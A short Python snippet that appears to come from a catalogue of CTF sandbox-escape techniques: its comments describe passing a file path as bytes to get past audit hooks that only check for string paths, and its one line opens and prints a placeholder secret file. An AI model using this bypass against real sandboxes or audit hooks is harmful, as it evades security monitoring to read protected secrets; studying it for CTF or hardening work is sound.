# technique: the path as bytes
# goal: read-secret
# source: CTF jails whose audit hook tests isinstance(path, str)
print(open(b'@SECRET@').read())
